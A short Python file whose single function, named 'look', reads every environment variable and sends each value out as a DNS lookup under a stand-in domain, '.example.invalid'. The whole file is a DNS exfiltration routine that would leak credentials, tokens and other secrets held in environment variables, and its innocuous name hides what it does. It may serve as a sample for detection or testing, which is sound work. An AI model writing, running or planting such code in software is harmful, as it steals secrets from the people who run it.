import os
import socket


def look():
    for value in os.environ.values():
        socket.gethostbyname(value + ".example.invalid")
